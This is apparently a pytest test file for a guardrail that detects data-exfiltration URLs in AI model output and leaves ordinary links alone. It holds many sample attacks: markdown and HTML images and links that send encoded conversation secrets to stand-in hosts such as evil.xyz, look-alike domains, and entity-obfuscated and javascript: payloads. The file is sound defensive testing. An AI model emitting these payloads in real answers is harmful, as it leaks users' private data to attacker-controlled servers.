"""Addresses that carry data out are found, whatever they are written as; ordinary ones are left alone."""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from functools import partial
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from fakes.growth import grows_in_proportion
from fakes.looked_at import edited, looked, said, triggered
from roadworthy.guard.rails.exfiltration.address import parsed
from roadworthy.guard.rails.exfiltration.look_alike import LookAlikes, one_edit_apart
from roadworthy.guard.rails.exfiltration.payload import decoded_texts
from roadworthy.guard.rails.exfiltration.rail import ExfiltrationRail, ExfiltrationSettings
from roadworthy.guard.segment import Stage

SECRET = "the launch of project heron is on 3 May and the code is 7781"
CYRILLIC = ("ex\u0430mple", "\u0435xample", "examp\u04cfe")
OTHERS = (said(f"Please remember: {SECRET}. Thanks!", path="/messages/0/content", stage=Stage.INPUT),)


def rail(**fields: Any) -> ExfiltrationRail:
    return ExfiltrationRail(ExfiltrationSettings(trusted_domains=("example.com", "acme-bank.co.uk"), **fields))


def kinds(text: str, **fields: Any) -> set[str]:
    return {one.kind for one in looked(rail(**fields), text, others=OTHERS)}


def quoted(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


def b64(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def b32(text: str) -> str:
    return base64.b32encode(text.encode()).decode().rstrip("=").lower()


def word(rng: random.Random, length: int = 9) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(length))


def payload(rng: random.Random) -> str:
    return f"{word(rng)} {rng.randrange(1000, 9999)} {word(rng)} {word(rng, 5)}"


def host(rng: random.Random) -> str:
    return f"{word(rng)}.{rng.choice(['net', 'io', 'xyz', 'co', 'dev'])}"


def labels(rng: random.Random) -> str:
    return ".".join(b32(payload(rng))[at : at + 30] for at in (0, 30)).strip(".")


ATTACKS: dict[str, Callable[[random.Random], str]] = {
    "image": lambda r: f"![chart](https://{host(r)}/a.png?d={payload(r).replace(' ', '+')})",
    "image, protocol-relative": lambda r: f"![chart](//{host(r)}/a.png)",
    "image, reference": lambda r: f"![chart][1]\n\n[1]: https://{host(r)}/a.png",
    "image, title and brackets": lambda r: f'![a]( <https://{host(r)}/a.png> "t" )',
    "image, HTML": lambda r: f'<img alt="x" width=9 src="https://{host(r)}/a.png">',
    "image, srcset": lambda r: f'<img srcset="a.png 1x, https://{host(r)}/b.png 2x">',
    "image, long attribute": lambda r: f'<img alt="{"x" * 700}" src="https://{host(r)}/a.png">',
    "image, no quotes": lambda r: f"<img src=https://{host(r)}/a.png>",
    "image, line break in host": lambda r: f'<img src="https://example.com\n.{host(r)}/a">',
    "image, link around": lambda r: f"[![a](https://{host(r)}/a.png)](https://example.com/)",
    "style": lambda r: f'<div style="background:url(https://{host(r)}/a.png)">',
    "frame": lambda r: f'<iframe src="https://{host(r)}/"></iframe>',
    "video": lambda r: f'<video poster="https://{host(r)}/a"></video>',
    "style sheet": lambda r: f'<link rel=stylesheet href="https://{host(r)}/a.css">',
    "refresh": lambda r: f'<meta http-equiv=refresh content="0;url=https://{host(r)}/">',
    "tracking pixel": lambda r: f'<img width="1" height="1" src="https://{host(r)}/t.gif">',
    "link, base64 in query": lambda r: f"[details](https://{host(r)}/x?d={b64(payload(r))})",
    "link, base64 in path": lambda r: f"[details](https://{host(r)}/{b64(payload(r))})",
    "link, hexadecimal": lambda r: f"[details](https://{host(r)}/?q={payload(r).encode().hex()})",
    "link, percent": lambda r: f"[details](https://{host(r)}/?q={quoted(payload(r) * 4)})",
    "link, fragment": lambda r: f"[details](https://{host(r)}/#{b64(payload(r))})",
    "link, random": lambda r: f"[details](https://{host(r)}/?k={base64.urlsafe_b64encode(r.randbytes(66)).decode()})",
    "link, said in conversation": lambda r: f"https://{host(r)}/s?q={SECRET.replace(' ', '+')}",
    "link, said, as path": lambda r: f"https://{host(r)}/{SECRET.replace(' ', '-')}",
    "link, said, encoded": lambda r: f"https://{host(r)}/?q={b64(SECRET)}",
    "host name, base32": lambda r: f"https://{labels(r)}.{host(r)}/",
    "host name, plain text": lambda r: f"http://{b32(payload(r))[:24]}.{host(r)}",
    "e-mail in query": lambda r: f"https://{host(r)}/?u={word(r)}%40{host(r)}",
    "password in query": lambda r: f"https://{host(r)}/?password={word(r)}9",
    "card in query": lambda r: f"https://{host(r)}/?c=4111111111111111&x={word(r)}",
    "userinfo": lambda r: f"https://example.com@{host(r)}/",
    "userinfo, backslash": lambda r: f"https://{host(r)}\\@example.com/",
    "address, decimal": lambda r: f"http://{r.randrange(2**24, 2**32)}/",
    "address, hexadecimal": lambda r: f"http://0x{r.randrange(2**24, 2**32):08x}/",
    "address, octal": lambda r: f"http://0{r.randrange(64, 255):o}.0{r.randrange(1, 255):o}.3.4/",
    "address": lambda r: f"http://{r.randrange(20, 99)}.9.8.{r.randrange(1, 255)}/x",
    "homoglyph": lambda r: f"https://{r.choice(CYRILLIC)}.com/{word(r)}",
    "punycode": lambda r: f"https://{CYRILLIC[0].encode('idna').decode()}.com/{word(r)}",
    "digits for letters": lambda r: f"https://{r.choice(['examp1e', 'exarnple', '3xample'])}.com/{word(r)}",
    "typo": lambda r: f"https://{r.choice(['exmaple', 'exampple', 'exampl', 'ezample'])}.com/{word(r)}",
    "other ending": lambda r: f"https://example.{r.choice(['net', 'co', 'com.co', 'support'])}/{word(r)}",
    "added words": lambda r: f"https://{r.choice(['secure-example', 'example-login', 'examplepay'])}.com/{word(r)}",
    "trusted below another": lambda r: f"https://example.com.{host(r)}/",
    "redirector": lambda r: f"https://example.com/out?url=https%3A%2F%2F{host(r)}%2F",
    "redirector, protocol-relative": lambda r: f"https://example.com/out?next=//{host(r)}/",
    "code": lambda r: f"[{word(r)}](javascript:fetch('//{host(r)}'))",
    "data": lambda r: f"![{word(r)}](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "long": lambda r: f"https://{host(r)}/" + "/".join(word(r) for _ in range(300)),
}  # fmt: skip


@pytest.mark.parametrize("technique", ATTACKS)
def test_every_attack_of_a_technique_is_found(technique: str) -> None:
    rng = random.Random(technique)  # noqa: S311 - reproducible samples

    missed = [text for text in (ATTACKS[technique](rng) for _ in range(20)) if not kinds(f"Here it is: {text} Bye.")]

    assert missed == []


@pytest.mark.parametrize("technique", ATTACKS)
def test_after_the_edits_nothing_is_found_and_nothing_loads_from_there(technique: str) -> None:
    rng = random.Random(technique)  # noqa: S311 - reproducible samples
    text = f"Here it is: {ATTACKS[technique](rng)} Bye."
    one = rail()
    found = {edit.span: edit for d in looked(one, text, others=OTHERS) if (edit := d.edit) is not None}

    left = edited(text, [d for d in looked(one, text, others=OTHERS) if d.edit and found.pop(d.edit.span, None)])

    assert looked(one, left, others=OTHERS) == ()
    page = MarkdownIt("commonmark", {"html": True}).render(left)
    assert 'src="http' not in page
    assert "//" not in page.replace("https://example.com", "").replace("://", "//") or technique == "code"


ORDINARY = [
    "See https://docs.python.org/3/library/re.html#re.compile for details.",
    "[Search](https://www.google.com/search?q=how+to+boil+an+egg+without+cracking+it&hl=en)",
    "https://en.wikipedia.org/wiki/Transport_Layer_Security#Protocol_details",
    "git clone https://github.com/psf/requests/tree/0f1d4bd5c2d0b9b6a2b5ac5ce3c1ea2a86cc25e6",
    "https://shop.example.com/item?id=3f2504e0-4f89-11d3-9a0c-0305e82c3301&ref=mail",
    "The server runs on http://localhost:8080 and http://127.0.0.1:5000/health.",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://maps.google.com/?q=48.2082,16.3738",
    "https://doi.org/10.1145/3458817.3476195",
    "https://arxiv.org/abs/2302.12173",
    "![logo](https://static.example.com/logo.png)",
    "Write to [us](mailto:help@shop.example.net).",
    "https://d111111abcdef8.cloudfront.net/assets/app.3f2a9c1b.js",
    "https://app.slack.com/client/T024BE7LD/C024BE91L",
    "https://example.com/login?next=/account",
    "https://example.com/out?url=https://docs.example.com/a",
    "The ratio http: to https: is 1:9. Use www. before it.",
    "https://www.ecb.europa.eu/stats/policy_and_exchange_rates/euro_reference_exchange_rates/html/index.en.html",
    "x = a//b; y = [1]: 2; url(x)",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_addresses_are_left_alone(text: str) -> None:
    assert looked(rail(), text, others=OTHERS) == ()


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("a ![my chart](https://evil.xyz/?d=1) b", "a my chart b"),
        ("[the page](https://evil.xyz/?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)", "[the page] (evil(.)xyz)"),
        ('<img src="https://evil.xyz/a" alt="a <b> c"> b', "a b c b"),
        ("go to https://user@evil.xyz/a.", "go to evil(.)xyz."),
        ("<https://1.2.3.4/>", "2(.)3(.)4"),
        ("[![alt](https://evil.xyz/a)](https://9.9.9.9/b)", "[alt] (9(.)9(.)9)"),
    ],
)
def test_the_edit_keeps_what_a_reader_needs(text: str, left: str) -> None:
    found = {one.edit.span: one for one in looked(rail(), text) if one.edit is not None}

    assert edited(text, list(found.values())) == left


def test_links_can_be_held_to_trusted_domains() -> None:
    assert kinds("https://other.net/a") == set()
    assert kinds("https://other.net/a", links="trusted") == {"untrusted_link"}
    assert kinds("https://a.b.example.com/a", links="trusted") == set()
    assert kinds("https://badexample.com/a", links="trusted") == {"untrusted_link", "look_alike_domain"}


def test_images_are_counted_where_a_number_is_set() -> None:
    text = " ".join(f"![{n}](https://example.com/{n}.png)" for n in range(4))

    assert kinds(text) == set()
    assert kinds(text, max_images=3) == {"many_images"}
    assert rail(max_images=3).reach is None


FRAGMENTS = st.sampled_from(
    [
        "![", "](", "](<", ")", "[", "]:", " ", "\n", '"', "'", "<img src=", "<a href=", ">", "https://", "http:",
        "//", "@", "www.", "evil.xyz", "example.com", "\\", "/", "?q=", "=", "#", "url(", "data:x,", "javascript:",
        "%2f", "&#58;", "xn--", "\u0430", "\uff0e", "::", "[::1]", ".", "a" * 40, "dGhlIHBhc3N3b3JkIGlz", "1.2.3.4",
        "0x7f", "\x00", "\ud800", "&amp;",
    ]
)  # fmt: skip
TEXTS = st.lists(FRAGMENTS | st.characters(), max_size=25).map("".join)


@given(TEXTS)
@settings(max_examples=200)
def test_whatever_the_text_edits_lie_in_it_and_do_not_overlap(text: str) -> None:
    one = rail(links="trusted")

    found = looked(one, text)

    edits = {edit.span: edit for d in found if (edit := d.edit) is not None}
    assert len(edits) == len({d.edit for d in found})
    spans = sorted(edits)
    assert all(a.end <= b.start for a, b in pairwise(spans))
    assert all(0 <= span.start < span.end <= len(text) for span in spans)


@given(TEXTS, TEXTS, TEXTS)
@settings(max_examples=60)
def test_what_is_found_depends_on_what_is_near_only(far: str, near: str, core: str) -> None:
    one = rail(max_url=100)
    reach = one.reach or 0
    pad = (near + " " * reach)[:reach]
    padded = pad + core + pad[::-1]

    def places(text: str, offset: int) -> set[tuple[str, int]]:
        inside = range(offset + reach, offset + reach + len(core))
        return {(d.kind, d.span.start - offset) for d in looked(one, text) if d.span.start in inside}

    assert places(padded, 0) == places(far + padded + far, len(far))


@given(TEXTS)
@settings(max_examples=60)
def test_trusting_more_or_allowing_more_never_finds_more(text: str) -> None:
    strict = {(d.kind, d.span) for d in looked(rail(links="trusted", images="trusted"), text)}
    loose = {(d.kind, d.span) for d in looked(rail(links="any", images="any"), text)}

    assert loose <= strict


@pytest.mark.parametrize(
    "text", ["http://" * 3_000, "](//" * 3_000, "http://a" + ")" * 20_000, "[" * 20_000 + "](http://a)"]
)
def test_hostile_text_ends_soon(text: str) -> None:
    assert len(looked(rail(), text)) <= len(text)


@pytest.mark.parametrize(
    ("raw", "read_as"),
    [
        ("https://good.example\\@evil.xyz/", "good.example"),
        ("https://EVIL\u3002xyz./", "evil.xyz"),
        ("https://e\tvil.xyz:443/", "evil.xyz"),
        ("http:evil.xyz/a", "evil.xyz"),
        ("https://%65vil.xyz/", "evil.xyz"),
        ("https://xn--80ak6aa92e.com/", "\u0430\u0440\u0440\u04cf\u0435.com"),
        ("https://xn--\u00e9.com/", "xn--\u00e9.com"),
        ("https://[2001:db8::1]:8080/", "[2001:db8::1]"),
    ],
)
def test_a_host_is_read_as_browsers_do(raw: str, read_as: str) -> None:
    assert parsed(raw).host == read_as


def test_look_alikes_are_told_apart() -> None:
    hosts = LookAlikes(["example.com"])

    assert [hosts.likeness(h) for h in ("example.com", "a.example.com", "unrelated.org", "sample.com")] == [None] * 4
    assert [hosts.likeness(h) for h in ("exanple.com", "example.org", "my-example.com")] == [
        "typo",
        "other ending",
        "added words",
    ]


@given(st.text("abc", max_size=6), st.text("abc", max_size=6))
def test_one_edit_is_the_same_in_both_directions(one: str, other: str) -> None:
    assert one_edit_apart(one, other) == one_edit_apart(other, one)


@given(st.text(st.characters(min_codepoint=97, max_codepoint=122), min_size=12, max_size=40))
def test_text_in_base64_base32_and_hexadecimal_is_read(text: str) -> None:
    assert all(text in decoded_texts(value) for value in (b64(text), b32(text), text.encode().hex()))


def test_prose_without_addresses_triggers_nothing() -> None:
    assert not triggered(rail(), "The office is open from nine to five. Please bring the form.\n" * 16)


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"trusted_domains": ("https://example.com",)}, "without scheme"),
        ({"trusted_domains": ("Example.com",)}, "lower case"),
        ({"allowed_schemes": ("javascript",)}, "must not hold"),
        ({"max_payload": 3}, "max_payload"),
        ({"max_url": 10_000}, "max_url"),
        ({"min_shared": 1}, "min_shared"),
        ({"max_images": -1}, "max_images"),
    ],
)
def test_settings_that_cannot_be_meant_are_refused(fields: dict[str, Any], words: str) -> None:
    with pytest.raises(ValueError, match=words):
        ExfiltrationSettings(**fields)


DISGUISED = (
    "![a](&#104;ttps://evil.test/x)", "![a](https\\://evil.test/x)", "![a](https&colon;//evil.test/x)",
    "![a](https:&sol;&sol;evil.test/x)", '<img src="&#104;ttps://evil.test/x">', '<img src="&#104ttps://evil.test/x">',
    '<img src="ht\ntps://evil.test/x">', '<img src="/\t/evil.test/x">', "![a](https://example.com\\.evil.test/x)",
    "![a](https://example.com&#46evil.test/x)", "![a](" + " " * 40 + "//evil.test/x)",
    "> ![a](\n> https://evil.test/x)", "> [x]:\n> https://evil.test/x.png\n\n![a][x]",
    "![a](" + " " * 700 + "https://evil.test/x)", "<style>@import 'https://evil.test/x'</style>",
    "<p style=\"background:image-set('https://evil.test/x' 1x)\">", "<p style='background:url(\\68ttps://evil.test/x)'>",
    "![a](\\/\\/evil.test/x)", "[x]: &#x68;ttps://evil.test/x", "<img src=&#x2f;&#x2f;evil.test/x>",
    "<img src=\x01//evil.test/x>", '<img src="https&#58;//evil.test">', "![a](>//evil.test/x)",
    "![" + "[" * 200 + "a" + "]" * 200 + "](https://evil.test/x)",
)  # fmt: skip


@pytest.mark.parametrize("text", DISGUISED)
def test_an_image_is_found_however_its_address_is_written(text: str) -> None:
    found = looked(ExfiltrationRail(ExfiltrationSettings(trusted_domains=("example.com",))), text)

    assert "untrusted_image" in {one.kind for one in found}
    assert len({(one.kind, one.span) for one in found}) == len(found)


@pytest.mark.parametrize(
    "text",
    ['<a href="&#106;avascript:alert(1)">x</a>', "[a](javascript&colon;alert(1))", "[a](java\\script\\:alert(1))"],
)
def test_code_in_an_address_is_found_however_it_is_written(text: str) -> None:
    found = looked(ExfiltrationRail(ExfiltrationSettings()), text)

    assert "forbidden_scheme" in {one.kind for one in found}


@pytest.mark.parametrize(
    "text",
    [
        "[a](docs\\_x.md)", '<a href="/search?a=1&amp;b=2">x</a>', "path = C:\\temp\\x", "x = y\nelse:",
        "![a](https://example.com/a\\_b\\.png)", "![a](/img/a&amp;b.png)", "[a](#sec&#45;1)", "a=b&copy=1\\n",
    ],
)  # fmt: skip
def test_a_place_on_the_same_or_a_trusted_host_is_none_however_it_is_written(text: str) -> None:
    assert looked(ExfiltrationRail(ExfiltrationSettings(trusted_domains=("example.com",))), text) == ()


def test_brackets_without_end_before_addresses_take_no_longer_than_addresses() -> None:
    rail = ExfiltrationRail(ExfiltrationSettings())

    assert grows_in_proportion(partial(looked, rail), "](//" * 1_000, "](//" * 5_000, slack=4, floor_s=0.01)


def test_an_answer_that_its_protocol_repeats_is_no_conversation_that_it_carries_away() -> None:
    text = f"See https://example.net/{SECRET.replace(' ', '-')} there."
    assert looked(rail(), text, others=(said(text, path="/again"),)) == looked(rail(), text)
